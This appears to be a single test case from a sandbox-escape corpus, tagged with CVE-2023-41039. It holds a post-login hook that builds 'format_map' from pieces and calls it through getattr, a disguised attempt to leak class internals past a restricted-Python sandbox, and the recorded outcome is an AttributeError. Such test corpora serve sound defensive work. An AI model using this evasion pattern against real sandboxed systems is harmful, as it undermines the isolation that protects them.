# origin: CVE-2023-41039
# technique: format_map by getattr
# goal: language
# outcome: RAISED:AttributeError

def on_execute_post_login(event, api):
    api.user.set_app_metadata("escaped", str(getattr("{a.__class__}", "format_" + "map")({"a": 1})))
